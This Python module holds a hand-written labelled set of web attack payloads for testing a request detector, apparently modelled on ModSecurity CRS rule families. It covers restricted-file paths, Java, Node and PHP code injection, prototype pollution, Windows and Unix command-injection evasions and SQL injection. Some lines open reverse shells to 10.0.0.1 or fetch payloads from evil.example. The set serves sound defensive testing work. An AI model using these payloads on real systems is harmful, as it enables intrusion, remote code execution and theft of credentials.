"""A small, self-written labelled attack set for the CRS paranoia-level-1 classes of issue 14.

The shared development corpora (../shared/corpora/payloads) hold no folder for restricted files,
Java / Node.js / PHP code injection, prototype pollution, Windows cmd or shell evasions, so this
set was written by hand for the bench, from the public shape of these attacks (CRS rule
families 930, 932, 933, 934, 944; ysoserial / marshalsec class names; Spring4Shell; node-serialize;
prototype-pollution write-ups). It is NOT a third-party corpus: it is written by the same project
that writes the detector, so its recall is an optimistic development figure, not a measurement
on unseen data.

Each sample is (family, expected finding kind, placement, text). Placements:

- ``value``: the text as a query parameter value and as a JSON body value (both must fire);
- ``path``: the text is the request path;
- ``query``: the text is a raw query string (keys included), as a client would send it;
- ``json``: the text is a raw JSON request body.
"""

from __future__ import annotations

__all__ = ["SAMPLES", "Sample"]

Sample = tuple[str, str, str, str]

_RESTRICTED_PATHS = [
    "/.env",
    "/.env.production",
    "/api/.env.local",
    "/.git/config",
    "/.git/HEAD",
    "/.git/logs/HEAD",
    "/.svn/wc.db",
    "/.hg/hgrc",
    "/.aws/credentials",
    "/.ssh/id_rsa",
    "/.htpasswd",
    "/.npmrc",
    "/.docker/config.json",
    "/wp-config.php",
    "/web.config",
    "/backup.sql",
    "/db/dump.sql.gz",
    "/site-backup.tar.gz",
    "/www.zip",
    "/index.php.bak",
    "/config.php~",
    "/app/settings.py.old",
    "/.DS_Store",
    "/.bash_history",
]
_RESTRICTED_VALUES = [
    ".env",
    "../.env",
    ".git/config",
    "../../.git/config",
    ".aws/credentials",
    "backup.sql",
    "database.sql.bz2",
    "/var/www/html/wp-config.php",
    ".ssh/authorized_keys",
    "WEB-INF/web.xml",
    "config/database.yml.bak",
    ".kube/config",
]

_JAVA = [
    "java.lang.Runtime",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}",
    "new java.lang.ProcessBuilder({'id'}).start()",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}",
    "${#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS}",
    "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
    "class.module.classLoader.URLs[0]=http://evil.example/x.jar",
    "org.apache.commons.collections.functors.InvokerTransformer",
    "org.apache.commons.collections4.functors.ChainedTransformer",
    "com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl",
    "javax.script.ScriptEngineManager",
    "java.beans.XMLDecoder",
    "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0",
    "aced0005737200116a6176612e7574696c2e48617368536574",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)}",
    "java.lang.System.exit(0)",
]
_NODE = [
    '_$$ND_FUNC$$_function(){require("child_process").exec("id")}()',
    '{"rce":"_$$ND_FUNC$$_function (){require(\'child_process\').exec(\'ls /\', function(e,o){})}()"}',
    "require('child_process').execSync('cat /etc/passwd')",
    "global.process.mainModule.require('child_process').exec('id')",
    "this.constructor.constructor('return process')().mainModule.require('fs')",
    "new Function('return process.env')()",
    "process.binding('spawn_sync').spawn({file:'/bin/sh'})",
    "require(\"fs\").readFileSync(\"/etc/passwd\")",
]
_PHP = [
    "<?php system($_GET['c']); ?>",
    "<?= `id` ?>",
    "system('id');",
    "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));",
    "assert(phpinfo())",
    "passthru('cat /etc/passwd')",
    'O:8:"stdClass":1:{s:4:"file";s:11:"/etc/passwd";}',
    'a:1:{i:0;O:4:"Evil":0:{}}',
    "expect://id",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
    "php://filter/convert.base64-encode/resource=index.php",
    "shell_exec('whoami')",
]

_PROTO_QUERY = [
    "__proto__[admin]=1",
    "__proto__.isAdmin=true",
    "a[__proto__][polluted]=yes",
    "constructor[prototype][admin]=1",
    "constructor.prototype.admin=1",
    "user[constructor][prototype][role]=admin",
    "__proto__%5Bx%5D=1",
    "q=1&__proto__[toString]=x",
]
_PROTO_JSON = [
    '{"__proto__":{"admin":true}}',
    '{"user":{"__proto__":{"isAdmin":true}}}',
    '{"constructor":{"prototype":{"admin":true}}}',
    '{"settings":{"constructor":{"prototype":{"shell":"/proc/self/exe"}}}}',
    '{"a":1,"__proto__":{"outputFunctionName":"x;process.mainModule.require(\'child_process\').exec(\'id\');//"}}',
    '[{"__proto__":{"polluted":1}}]',
]
_PROTO_VALUES = [
    "__proto__.admin",
    "a.__proto__.b",
    "constructor.prototype.isAdmin",
    "settings.__proto__.role",
    "[\"__proto__\"][\"admin\"]",
    "x.constructor.prototype.polluted",
]

_WINDOWS_CMD = [
    "& dir C:\\",
    "| type C:\\Windows\\win.ini",
    "& net user",
    "&& whoami /priv",
    "| ipconfig /all",
    "& for /f \"tokens=*\" %i in ('whoami') do @echo %i",
    "FOR /F %a IN ('dir /b') DO echo %a",
    "& %COMSPEC% /c whoami",
    "& cmd /c \"echo hacked\"",
    "| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://x')\"",
    "& certutil -urlcache -split -f http://evil.example/x.exe x.exe",
    "& set /a 1+1",
    "& systeminfo",
    "| tasklist /v",
    "& reg query HKLM\\SOFTWARE",
    "& w^h^o^a^m^i",
    "& c^m^d /c dir",
    "%SystemRoot%\\system32\\cmd.exe /c ver",
]
_SHELL_EVASION = [
    ";cat${IFS}/etc/passwd",
    ";cat$IFS/etc/passwd",
    "|{cat,/etc/passwd}",
    ";{ls,-la,/}",
    ";c''at /etc/passwd",
    ";w'h'o'am'i",
    ';c"a"t /etc/shadow',
    ";c\\at /etc/passwd",
    ";/???/c?t /etc/passwd",
    ";/bin/c[a]t /etc/passwd",
    "$(printf 'id')",
    "`echo aWQ= | base64 -d`",
    ";echo aWQ=|base64${IFS}-d|sh",
    ";python -c 'import os;os.system(\"id\")'",
    ";python3 -c \"__import__('os').system('id')\"",
    ";perl -e 'exec \"/bin/sh\"'",
    ";ruby -e 'exec \"id\"'",
    ";php -r 'system(\"id\");'",
    ";bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'",
    ";nc -e /bin/sh 10.0.0.1 4444",
    ";X=$'\\x69\\x64';$X",
    ";a=c;b=at;$a$b /etc/passwd",
    "$(c$@at /etc/passwd)",
    ";who$()ami",
]
_SQL_KEYWORDS = [
    "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)",
    "(select load_file('/etc/passwd'))",
    "1;WAITFOR DELAY '0:0:5'--",
    "1 AND extractvalue(1,concat(0x7e,(SELECT user())))",
    "1 AND updatexml(1,concat(0x7e,version()),1)",
    "1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)",
    "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)",
    "1 OR pg_sleep(5)--",
    "';EXEC xp_cmdshell 'dir'--",
    "1 UNION ALL SELECT NULL,@@version--",
    "(SELECT CHAR(113)+CHAR(118)+CHAR(122))",
    "1 AND benchmark(5000000,md5(1))",
    "SELECT * FROM users WHERE id=1 INTO OUTFILE '/tmp/x'",
    "1' AND sleep(5)#",
    "1 ORDER BY 10--",
    "1' GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)#",
]


def _expand() -> list[Sample]:
    samples: list[Sample] = []
    samples += [("restricted_file", "restricted_file", "path", t) for t in _RESTRICTED_PATHS]
    samples += [("restricted_file", "restricted_file", "value", t) for t in _RESTRICTED_VALUES]
    samples += [("code_injection java", "code_injection", "value", t) for t in _JAVA]
    samples += [("code_injection node", "code_injection", "value", t) for t in _NODE]
    samples += [("code_injection php", "code_injection", "value", t) for t in _PHP]
    samples += [("prototype_pollution", "prototype_pollution", "query", t) for t in _PROTO_QUERY]
    samples += [("prototype_pollution", "prototype_pollution", "json", t) for t in _PROTO_JSON]
    samples += [("prototype_pollution", "prototype_pollution", "value", t) for t in _PROTO_VALUES]
    samples += [("windows cmd", "command_injection", "value", t) for t in _WINDOWS_CMD]
    samples += [("shell evasion", "command_injection", "value", t) for t in _SHELL_EVASION]
    samples += [("sql keyword forms", "sqli", "value", t) for t in _SQL_KEYWORDS]
    return samples


SAMPLES: list[Sample] = _expand()
